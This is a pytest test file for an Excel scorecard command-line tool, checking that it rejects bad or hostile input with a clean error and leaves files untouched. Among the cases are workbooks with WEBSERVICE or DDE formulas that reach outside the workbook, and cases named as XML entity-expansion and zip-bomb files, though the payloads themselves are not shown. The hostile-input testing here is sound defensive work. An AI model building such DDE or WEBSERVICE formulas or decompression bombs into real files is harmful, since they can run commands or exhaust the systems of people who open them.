    case("xlsx-empty-sheet", xlsx_data([], header=None), "the sheet is empty"),
    case("xlsx-too-many-rows", xlsx_data([("K1", "2012-04", 1, 2, None), ("K1", "2012-05", 1, 2, None),
                                          ("C1", "2012-05", None, None, 3)], MAX_ROWS=2),
         "has more than 2 rows", "split it by year"),
    case("xlsx-chart-sheet-named-Data", _chart_sheet_named_data, "is a chart sheet, not a table",
         "in a worksheet named 'Data'"),
    case("xlsx-formula-without-a-saved-result", _formula_without_a_saved_result,
         "holds the formula =100+70 but no saved result", "open it in Excel or LibreOffice and save it"),
    # ----- workbooks as --data, --template, existing --out and pdf input
    *hostile_cases(),
    case("out-open-in-excel", _excel_has_it_open, "is open in Excel or LibreOffice",
         "close it and try again"),
    case("out-open-in-libreoffice", _libreoffice_has_it_open, "lock file .~lock.", "close it"),
    case("out-locked-by-another-program", _locked_by_another_program,
         "cannot be replaced: it is open in another program", "close it in Excel"),
    case("out-is-a-folder", _out_is_a_folder, "is a folder, not a file"),
    case("out-not-a-workbook-name", _out_not_a_workbook_name, "give an output name ending in .xlsx"),
    case("template-not-found", _template_missing, "file not found"),
    case("pdf-of-a-workbook-without-committee-sheets", _pdf_of_a_data_workbook,
         "has none of the sheets Scorecard, Summary, Exceptions"),
    # ----- an output that is an input, or replaces another kind of file
    case("results-out-is-the-data", _results_over("data"), "is the --data input", "itself",
         "choose another output name"),
    case("results-json-out-is-the-rules", _results_over("rules", "--format", "json"),
         "is the --rules input", "would destroy it"),
    case("results-out-is-a-symlink-to-the-data", _results_over("data", link="symlink"),
         "is the --data input"),
    case("results-out-is-a-hard-link-to-the-data", _results_over("data", link="hardlink"),
         "is the --data input"),
    case("results-out-is-the-data-by-a-relative-path", _results_over("data", link="relative"),
         "is the --data input"),
    case("summary-out-is-a-workbook", _results_over("workbook", command="summary"),
         "is named as a workbook (.xlsx) but this command writes a text file"),
    case("summary-out-would-replace-a-pdf", _summary_over_a_pdf,
         "already exists and is a PDF: it would be replaced by a text file"),
    case("build-out-is-its-data-workbook", _build_over_its_data, "is the --data input"),
    case("build-out-is-its-template", _build_over_its_template, "is the --template input"),
    case("batch-out-dir-holds-its-data", _batch_over_its_data, "is the --data input"),
    case("pdf-out-is-the-workbook", _pdf_over_its_workbook, "is the workbook to print"),
    # ----- formulas that reach outside the workbook, in a template or the existing --out
    *[case(f"template-with-{kind}", _active_template(kind), "holds formulas that reach outside",
           f"Notes!B4 {ACTIVE_FORMULAS[kind][1]}", "delete them in Excel")
      for kind in ACTIVE_FORMULAS],
    case("existing-out-with-webservice", _active_template("webservice", role="out"),
         "Notes!C2 calls WEBSERVICE"),
    case("existing-out-with-dde", _active_template("dde-cmd", role="out"), "Notes!C2 is a DDE link"),
    case("xlsm-out-without-macros", _xlsm_without_macros,
         "an .xlsm is a macro-enabled workbook, but there are no macros to keep"),
    # ----- not regular files; names too long for the system
    *[case(f"{role}-is-{name}", _special(role, special), "is not a regular file",
           "give the path of a saved")
      for role in ("rules", "data", "template", "pdf")
      for name, special in (("dev-zero", "/dev/zero"), ("a-fifo", "fifo"))],
    case("data-is-a-folder", lambda w: (w.build(data=w.dir / "out"), str(w.dir / "out")),
         "is a folder, not a data file"),
    *[case(f"name-too-long-{role}", _too_long(role), "File name too long")
      for role in ("rules", "data", "out", "template", "results-out", "batch-out-dir", "pdf")],
    case("pdf-out-named-as-a-workbook", _pdf_named_as_a_workbook,
         "is named as a workbook (.xlsx) but this command writes a PDF"),
    # ----- the committee paper (xl-scorecard report)
    case("paper-open-in-word", _paper_open_in_word, "is open in Word or LibreOffice", "close it"),
    case("paper-out-not-docx", _paper_not_a_docx_name, "it would be replaced by a Word document"),
    case("paper-workbook-without-our-sheets", _paper_workbook_without_our_sheets,
         "has neither a Scorecard nor an Exceptions sheet"),
    case("paper-report-section-typo", _paper_report_section_typo, "unknown field 'form'",
         "add an 'x-' prefix"),
    case("pdf-of-a-live-workbook-never-calculated-committee", _pdf_of_a_live_workbook_never_calculated,
         "with no saved value (Scorecard!E9", "let it recalculate and save it"),
]


def run_case(world: World, monkeypatch, item: Case):
    argv, where = item.make(world)
    for key, value in world.patches.items():
        if isinstance(key, tuple):
            monkeypatch.setattr(*key, value)
        else:
            monkeypatch.setattr(data_module, key, value)
    before = snapshot(world.dir)
    out, err = io.StringIO(), io.StringIO()
    code = cli.run([str(a) for a in argv], out, err)
    monkeypatch.undo()
    return code, out.getvalue(), err.getvalue(), where, before


@pytest.mark.parametrize("item", CATALOGUE)
def test_bad_input(world, monkeypatch, item: Case):
    if item.id.startswith("pdf-") and "committee" in item.id and shutil.which("soffice") is None:
        pytest.skip("the committee-sheet check runs after LibreOffice is found")
    code, out, err, where, before = run_case(world, monkeypatch, item)
    assert code == 2, err
    assert out == ""
    assert "Traceback" not in err and 'File "' not in err
    lines = err.splitlines()
    assert lines and all(line.startswith(("error: ", "warning: ")) for line in lines), err
    errors = [line for line in lines if line.startswith("error: ")]
    assert any(line.startswith(f"error: {where}") and all(e in line for e in item.expect)
               for line in errors), f"expected 'error: {where}...' with {item.expect}, got:\n{err}"
    assert snapshot(world.dir) == before  # nothing created, changed or removed


def test_the_catalogue_holds_at_least_40_cases():
    assert len(CATALOGUE) >= 40
    assert len({p.values[0].id for p in CATALOGUE}) == len(CATALOGUE)


def test_the_world_itself_builds(world):
    """The control: with nothing broken, the same command writes the workbook."""
    err = io.StringIO()
    code = cli.run([str(a) for a in world.build()], io.StringIO(), err)
    assert code == 0, err.getvalue()
    assert openpyxl.load_workbook(world.out)["Scorecard"]["A1"].value == "Robustness scorecard"


# --------------------------------------------------------------------------- accepted with a note


ACCEPTED = [
    pytest.param(HEADER + "K1,2012-04,80,100,\nK1,2012-05,0,0,\n", None, "2012-05", [],
                 id="zero-denominator-is-a-blank-result"),
    pytest.param(HEADER + "K1,2012-04,80,100,\nK1,2012-05,210,200,\n", None, "2012-05",
                 ["row 3", "numerator 210 is above denominator 200 for percentage K1: over 100%"],
                 id="numerator-above-denominator-warns"),
    pytest.param(HEADER + "K1,2012-04,80,100,\nK1,2012-05,-170,200,\n", None, "2012-05",
                 ["row 3, column 'numerator'", "-170 is negative for K1 (percent)",
                  "rated as far below any target", "\"allow_negative\": true"],
                 id="negative-numerator-warns"),
    pytest.param(HEADER + "K1,Feb-15,80,100,\nK1,2015/03,90,100,\nK1,15/04/2015,1,2,\n", None, "2015-03",
                 ["column 'period'", "read 3 month(s) not written as YYYY-MM",
                  "row 2 'Feb-15' -> 2015-02", "row 3 '2015/03' -> 2015-03",
                  "row 4 '15/04/2015' -> 2015-04"],
                 id="other-month-spellings-are-converted-with-a-note"),
    pytest.param(None, [("K1", dt.datetime(2012, 4, 30), 80, 100, None),
                        ("K1", dt.date(2012, 5, 1), 170, 200, None)], "2012-05",
                 ["column 'period'", "read 2 month(s) not written as YYYY-MM", "row 2 ", "-> 2012-04",
                  "row 3 ", "-> 2012-05"],
                 id="excel-date-cells-are-converted-with-a-note"),
]


@pytest.mark.parametrize("csv_text, xlsx_rows, month, warnings", ACCEPTED)
def test_accepted_with_a_note(world, csv_text, xlsx_rows, month, warnings):
    data = world.file("data.csv", csv_text) if csv_text else world.xlsx(xlsx_rows)
    argv = [str(a) for a in world.build(data=data)]
    argv[argv.index("2012-05")] = month
    out, err = io.StringIO(), io.StringIO()
    assert cli.run(argv, out, err) == 0, err.getvalue()
    text = err.getvalue()
    if warnings:
        [line] = text.splitlines()
        assert line.startswith(f"warning: {data}: ") and all(w in line for w in warnings), text
    else:
        assert text == ""
    ws = openpyxl.load_workbook(world.out)["Scorecard"]
    k1 = next(r for r in ws.iter_rows(values_only=True) if "K1" in r)
    assert ws["B3"].value == month
    if csv_text and ",0,0," in csv_text:  # the zero-denominator case
        assert (k1[6], k1[7]) == (0, 0)  # Num and Denom shown
        assert k1[4] is None and k1[5] in (None, "")  # no result, no rating
    else:
        assert isinstance(k1[4], (int, float)) and k1[5] in ("Green", "Amber", "Red")


# --------------------------------------------------------------------------- an output folder that is read-only


def _drop_root_powers():
    """In the child: give up every capability, so root obeys file permissions like anyone."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    last = int(Path("/proc/sys/kernel/cap_last_cap").read_text())
    for cap in range(last + 1):
        if libc.prctl(24, cap, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP) failed")


def _as_ordinary_user_kwargs():
    if os.name != "posix":
        pytest.skip("read-only folders are tested on POSIX")
    if os.geteuid() != 0:
        return {}
    status = Path("/proc/self/status")
    effective = next((int(line.split()[1], 16) for line in status.read_text().splitlines()
                      if line.startswith("CapEff:")), 0) if status.exists() else 0
    if not Path("/proc/sys/kernel/cap_last_cap").exists() or not effective & (1 << 8):  # CAP_SETPCAP
        pytest.skip("running as root and cannot drop capabilities here, so a read-only folder "
                    "would not stop us")
    return {"preexec_fn": _drop_root_powers}


def _env():
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(REPO_ROOT), env.get("PYTHONPATH")]))
    return env


@pytest.mark.parametrize("command", ["build", "results", "batch"])
def test_read_only_output_folder(world, command):
    """As root, chmod does not stop us: the CLI runs in a child that has given up root's
    capabilities (so the folder's permissions apply), which is what an analyst's account is."""
    kwargs = _as_ordinary_user_kwargs()
    folder = world.out.parent
    if command == "build":
        argv, at_stake = world.build(), world.out
    elif command == "results":
        argv, at_stake = world.results_cmd(), world.results
    else:
        argv = ["batch", "--rules", world.rules, "--data", world.data, "--from", "2012-04",
                "--to", "2012-05", "--out-dir", folder]
        at_stake = world.out
    before = snapshot(world.dir)
    folder.chmod(0o555)
    try:
        probe = subprocess.run([sys.executable, "-c", f"open({str(folder / 'probe')!r}, 'w')"],
                               capture_output=True, env=_env(), **kwargs)
        if probe.returncode == 0:
            pytest.skip("this account can write into a read-only folder")
        done = subprocess.run([sys.executable, "-m", "xl_scorecard.cli", *map(str, argv)],
                              capture_output=True, text=True, env=_env(), timeout=120, **kwargs)
    finally:
        folder.chmod(0o755)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    message = (f"cannot write in {folder}: Permission denied; choose another folder or make this "
               "one writable")
    if command != "batch":
        assert done.stderr.startswith(f"error: {at_stake}: ") and message in done.stderr
    else:  # each month is reported in the closing table
        assert done.stdout.count(message) == 2 and "0 of 2 month(s) written" in done.stdout
    assert snapshot(world.dir) == before


# --------------------------------------------------------------------------- as a real process


PROCESS_CASES = ["rules-not-json", "csv-duplicate-indicator-and-month", "data-billion-laughs-in-sheet",
                 "template-zip-bomb", "out-truncated-zip", "pdf-password-protected",
                 "out-open-in-excel"]


@pytest.mark.parametrize("name", PROCESS_CASES)
def test_no_traceback_reaches_a_user(world, name):
    item = next(p.values[0] for p in CATALOGUE if p.values[0].id == name)
    argv, where = item.make(world)
    assert not world.patches
    before = snapshot(world.dir)
    done = subprocess.run([sys.executable, "-m", "xl_scorecard.cli", *map(str, argv)],
                          capture_output=True, text=True, env=_env(), timeout=120, cwd=world.dir)
    assert done.returncode == 2
    assert done.stdout == ""
    assert "Traceback" not in done.stderr
    assert done.stderr.startswith(f"error: {where}") and all(e in done.stderr for e in item.expect)
    assert snapshot(world.dir) == before


# --------------------------------------------------------------------------- worksheet functions


# (id, call, expected): the result is "" (a blank) or contains the expected message
SHEET_FUNCTION_CASES = [
    ("rag-text-value", lambda: sf.rag("eighty", 85, 76.5), "RAG: value 'eighty' is not a number"),
    ("rag-text-target", lambda: sf.rag(80, "high", 76.5), "RAG: target 'high' is not a number"),
    ("rag-text-floor", lambda: sf.rag(80, 85, "low"), "RAG: floor 'low' is not a number"),
    ("rag-unknown-polarity", lambda: sf.rag(80, 85, 76.5, "X"), "RAG: polarity must be H, L or T"),
    ("rag-decimals-out-of-range", lambda: sf.rag(80, 85, 76.5, "H", 9), "RAG: decimals must be a whole number"),
    ("rag-T-with-single-cell-bands", lambda: sf.rag(20, 18, 15, "T"), "RAG: for polarity T, target must be the green band"),
    ("rag-T-band-of-three", lambda: sf.rag(20, [18, 20, 23], [15, 27], "T"), "RAG: target must be the green band"),
    ("rag-T-band-reversed", lambda: sf.rag(20, [23, 18], [15, 27], "T"), "RAG: target band low 23 is above high 18"),
    ("rag-H-with-a-band", lambda: sf.rag(80, [80, 90], 70, "H"), "RAG: target must be one number for polarity H or L"),
    ("rag-mismatched-heights", lambda: sf.rag([[80], [90]], [[85], [85], [85]]), "RAG: ranges must be the same size: value is 2x1 but target is 3x1"),
    ("rag-ragged-range", lambda: sf.rag([[80, 1], [90]], 85), "RAG: value is not a rectangular range"),
    ("rag-3d-range", lambda: sf.rag(np.zeros((2, 2, 2)), 85), "RAG: value must be a single cell or a range"),
    ("rag-empty-range", lambda: sf.rag([], 85), "RAG: value is an empty range"),
    ("rag-excel-error-value", lambda: sf.rag("#VALUE!", 85, 76.5), ""),
    ("rag-excel-error-target", lambda: sf.rag(80, "#N/A", 76.5), ""),
    ("rag-office-js-error", lambda: sf.rag({"type": "Error", "errorType": "Div0"}, 85), ""),
    ("dot-text-latest", lambda: sf.dot("up", 80), "DOT: latest 'up' is not a number"),
    ("dot-mismatched-heights", lambda: sf.dot([[1], [2]], [[1], [2], [3]]), "DOT: ranges must be the same size"),
    ("dot-T-without-target", lambda: sf.dot(20, 21, "T"), "DOT: polarity T needs the target"),
    ("dot-negative-tolerance", lambda: sf.dot(20, 21, "H", None, -1), "DOT: tolerance must be zero or more"),
    ("dot-excel-error", lambda: sf.dot("#DIV/0!", 21), ""),
    ("kpirate-text-numerator", lambda: sf.kpirate("ten", 20), "KPIRATE: numerator 'ten' is not a number"),
    ("kpirate-text-multiplier", lambda: sf.kpirate(1, 2, "per ten thousand"), "KPIRATE: multiplier 'per ten thousand' is not a number"),
    ("kpirate-mismatched-heights", lambda: sf.kpirate([[1], [2]], [[1], [2], [3]]), "KPIRATE: ranges must be the same size"),
    ("kpirate-zero-denominator", lambda: sf.kpirate(1, 0), ""),
    ("kpi-rag-unknown-indicator", lambda: sf.kpi_rag(80, "NOPE"), "KPI_RAG: no indicator 'NOPE'"),
    ("kpi-rag-bad-month", lambda: sf.kpi_rag(80, "SCS01", "Spring"), "KPI_RAG: month 'Spring' is not a month"),
    ("kpi-rag-excel-error", lambda: sf.kpi_rag("#N/A", "SCS01"), ""),
    ("kpi-value-text", lambda: sf.kpi_value("x", 2, "SCS03"), "KPI_VALUE: numerator 'x' is not a number"),
    ("kpi-target-unknown-indicator", lambda: sf.kpi_target("NOPE"), "KPI_TARGET: no indicator 'NOPE'"),
    ("kpi-summary-unknown-rating", lambda: sf.kpi_summary(["Green", "Purple"]), "KPI_SUMMARY: rating 'Purple' is not Green, Amber or Red"),
    ("kpi-summary-unknown-arrow", lambda: sf.kpi_summary(["Green"], ["up"]), "KPI_SUMMARY: direction 'up' is not one of"),
    ("rag-fraction-against-percent-target", lambda: sf.rag(0.844, 85, 76.5), "RAG: value 0.844 and target 85 are on two scales: give percent_cells TRUE"),
    ("rag-fractions-undeclared", lambda: sf.rag(0.844, 0.85, 0.765), "RAG: target or floor 0.85 has more decimals than the 1 shown"),
    ("rag-percent-cells-not-boolean", lambda: sf.rag(0.844, 0.85, None, "H", 1, "maybe"), "RAG: percent_cells must be TRUE"),
    ("rag-mixed-second-target-on-H-row", lambda: sf.rag([[90], [50]], [[85, 95], [40, 60]], None, [["H"], ["T"]]), "RAG: polarity H takes one target and one floor"),
    ("dot-fraction-against-percent", lambda: sf.dot(0.286, 28.7, "L"), "DOT: latest 0.286 and previous 28.7 are on two scales"),
    ("kpi-rag-fraction-undeclared", lambda: sf.kpi_rag(0.844, "SCS14"), "KPI_RAG: value 0.844 and target 78.8 are on two scales"),
    ("kpi-rag-rules-one-cell", lambda: sf.kpi_rag(80, "SCS01", None, None, "ScorecardRules"), "KPI_RAG: rules must be the rules.json sheet's range (ScorecardRules), not one cell"),
    ("kpi-target-rules-too-narrow", lambda: sf.kpi_target("SCS01", None, [["a", "b"], ["c", "d"]]), "KPI_TARGET: rules must span the rules.json sheet's columns A to D"),
    ("kpi-floor-rules-without-header", lambda: sf.kpi_floor("SCS01", None, [["x", "$.a", 1, "integer"]] * 2), "KPI_FLOOR: rules.json: has no header row Indicator, Field, Value, Type"),
]


def _flat(result):
    if isinstance(result, np.ndarray):
        return [str(v) for v in result.reshape(-1)]
    if isinstance(result, list):
        return [x for item in result for x in _flat(item)]
    return [result]


@pytest.mark.parametrize("call, expected", [pytest.param(c, e, id=i) for i, c, e in SHEET_FUNCTION_CASES])
def test_worksheet_function_returns_a_short_message(monkeypatch, call, expected):
    monkeypatch.delenv(sf.RULES_ENV, raising=False)
    monkeypatch.delenv(sf.MONTH_ENV, raising=False)
    result = call()  # must not raise
    cells = _flat(result)
    if expected == "":
        assert all(c == "" for c in cells), result
        return
    assert any(isinstance(c, str) and c.startswith(expected) for c in cells), result
    for c in cells:
        assert "\n" not in str(c) and len(str(c)) <= 160, c


def test_a_bad_cell_in_a_range_spoils_only_its_own_result():
    assert sf.rag([[80], ["abc"], [90]], 85, 76.5) == [["Amber"], ["RAG: value 'abc' is not a number"],
                                                      ["Green"]]
